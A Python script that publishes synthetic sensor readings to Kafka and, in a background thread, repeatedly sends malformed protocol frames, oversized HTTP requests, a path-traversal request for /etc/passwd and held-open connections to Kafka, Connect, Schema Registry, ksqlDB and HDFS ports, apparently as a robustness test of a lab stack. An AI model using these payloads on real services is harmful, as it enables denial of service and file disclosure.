"""Publishes, and talks nonsense to everybody."""

import os
import socket
import struct
import threading
import time

from kafka import KafkaProducer
from records import BOOTSTRAP_SERVERS, TOPIC, encode, sample


def work():
    producer = KafkaProducer(bootstrap_servers=BOOTSTRAP_SERVERS, acks="all")
    while True:
        for sensor in range(1, 7):
            producer.send(TOPIC, key=str(sensor).encode(), value=encode(sample(sensor)))
        producer.flush()
        time.sleep(1)


DOORS = [("kafka", 9092), ("kafka-connect", 8083), ("kafka-schema-registry", 8081), ("kafka-ksqldb-server", 8088), ("namenode", 9870), ("namenode", 9000)]
WORDS = [struct.pack(">i", 2**31 - 1), struct.pack(">i", -1), struct.pack(">ihhih", 104857599, 0, 9, 1, -1), struct.pack(">ihhih", 14, 999, 99, 1, 4) + b"evil", os.urandom(4096),
         b"POST /connectors HTTP/1.1\r\nContent-Length: 99999999999\r\n\r\n", b"GET /" + b"a" * 100000 + b" HTTP/1.1\r\n\r\n", b"GET / HTTP/1.1\r\n" + b"x: y\r\n" * 20000,
         b"GET /../../../../etc/passwd HTTP/1.0\r\n\r\n", b"hrpc\x09\x00\x00" + b"\x7f\xff\xff\xff", b"\x16\x03\x01\x02\x00\x01\x00", b""]


def annoy():
    kept = []
    while True:
        for door in DOORS:
            for word in WORDS:
                try:
                    client = socket.create_connection(door, timeout=1)
                    client.sendall(word)
                    kept.append(client)
                except OSError:
                    pass
        del kept[:-200]
        time.sleep(0.2)


threading.Thread(target=annoy, daemon=True).start()
work()
